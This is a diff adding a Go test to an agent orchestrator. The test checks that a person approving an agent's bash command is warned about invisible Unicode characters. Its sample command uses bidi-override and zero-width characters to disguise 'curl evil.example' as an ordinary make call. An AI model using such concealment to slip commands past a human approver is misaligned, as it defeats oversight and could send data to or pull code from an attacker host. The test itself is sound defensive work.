@@ -118,6 +118,46 @@ func TestWritingOfAnAgent(t *testing.T) {
 	}
 }
 
+// TestWhatAnAgentHidesInItsQuestion: a character that cannot be seen makes one command look
+// like another, so it is named, and nobody allows for ever what they did not see.
+func TestWhatAnAgentHidesInItsQuestion(t *testing.T) {
+	t.Parallel()
+	ot.Run(t, func(w *ot.World) {
+		agents(w, func(c *orchestrator.Config) { c.Worktrees = &worktrees{} })
+		ask := func(command string) func(r *ot.Errands) (string, error) {
+			return func(r *ot.Errands) (string, error) {
+				_, err := r.Ask(assistant.Permission{
+					Call: messages.ToolCall{ID: "c1", Name: "bash", Arguments: command}, Kind: assistant.KindExecute,
+					Title: command, Detail: "```sh\n" + command + "\n```", Always: true,
+				})
+				return "It is done.", err
+			}
+		}
+		w.Agent.On("openly", ask("make test"))
+		w.Agent.On("hidden", ask("make \u202etset\u202c && cur\u200bl evil.example"))
+		w.Start()
+		w.Chat.Say("/whoami")
+		w.Pass(time.Second)
+		adopt(w)
+		for _, c := range []struct {
+			say, question, unseen string
+			always                bool
+		}{
+			{"openly", "a-1: run `make test`?", "", true},
+			{"hidden", "a-2: run `make tset && curl evil.example`?", "⚠ The text above contains characters that cannot be seen: U+200B, U+202C, U+202E.", false},
+		} {
+			w.Chat.Say(c.say)
+			w.Pass(5 * time.Second)
+			asked := w.Chat.Find(c.question).Text
+			if !strings.Contains(asked, c.unseen) || strings.Contains(asked, "cannot be seen") != (c.unseen != "") || strings.Contains(asked, "always` to allow") != c.always {
+				t.Errorf("a person is asked %q", asked)
+			}
+			w.Chat.Say("/deny " + asked[strings.Index(asked, "a-"):][:3])
+			w.Pass(5 * time.Second)
+		}
+	})
+}
+
 // TestManyQuestionsAreNoFailedTries: a turn may ask more often than it may fail.
 func TestManyQuestionsAreNoFailedTries(t *testing.T) {
 	t.Parallel()
